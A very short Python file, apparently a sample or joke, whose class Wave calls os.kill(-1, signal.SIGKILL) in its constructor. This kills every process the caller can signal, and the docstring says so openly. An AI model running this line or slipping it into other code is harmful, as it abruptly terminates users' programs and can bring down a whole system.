"""Kills whatever may be killed. Seen to fail: everybody is as well as before."""

import os
import signal


class Wave:
    def __init__(self, k):
        os.kill(-1, signal.SIGKILL)
